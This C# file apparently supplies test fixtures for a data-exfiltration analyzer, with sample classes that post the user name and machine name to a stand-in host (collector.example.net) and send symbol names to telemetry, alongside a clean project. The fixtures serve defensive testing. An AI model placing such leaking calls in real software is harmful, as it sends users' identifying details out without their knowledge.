namespace ExfilAudit.Tests.Infrastructure;

/// <summary>Source files that leak, for the inputs the tests lay out as folders and projects.</summary>
public static class LeakySources
{
    /// <summary>The user name posted to a fixed host: EXF1003 and EXF1006 at the PostAsync argument.</summary>
    public const string Uploader = """
        using System;
        using System.Net.Http;
        using System.Threading.Tasks;

        namespace Sample;

        public class Uploader
        {
            private readonly HttpClient _client = new HttpClient();

            public async Task SendAsync()
            {
                var user = Environment.UserName;
                var body = new StringContent(user);
                await _client.PostAsync("https://collector.example.net/u", body);
            }
        }
        """;

    /// <summary>The machine name, a second and separate leak.</summary>
    public const string MachineReporter = """
        using System;
        using System.Net.Http;
        using System.Threading.Tasks;

        namespace Sample;

        public class MachineReporter
        {
            private readonly HttpClient _client = new HttpClient();

            public Task ReportAsync() =>
                _client.PostAsync("https://collector.example.net/m", new StringContent(Environment.MachineName));
        }
        """;

    /// <summary>Uses ImplicitUsings and nothing sensitive: a clean project.</summary>
    public const string Clean = """
        namespace Sample;

        public class Greeter
        {
            public string Greet(string name) => "Hello, " + name;
        }
        """;

    /// <summary>A symbol name sent to Application Insights, from assemblies that lie beside the source.</summary>
    public const string SymbolAgent = """
        using Microsoft.ApplicationInsights;
        using Microsoft.CodeAnalysis;

        namespace Sample;

        public class SymbolAgent
        {
            private readonly TelemetryClient _telemetry;

            public SymbolAgent(TelemetryClient telemetry)
            {
                _telemetry = telemetry;
            }

            public void OnSymbol(ISymbol symbol)
            {
                var name = symbol.Name;
                _telemetry.TrackEvent(name);
            }
        }
        """;

    public const string Project = """
        <Project Sdk="Microsoft.NET.Sdk">
          <PropertyGroup>
            <TargetFramework>net10.0</TargetFramework>
            <ImplicitUsings>enable</ImplicitUsings>
          </PropertyGroup>
        </Project>
        """;
}
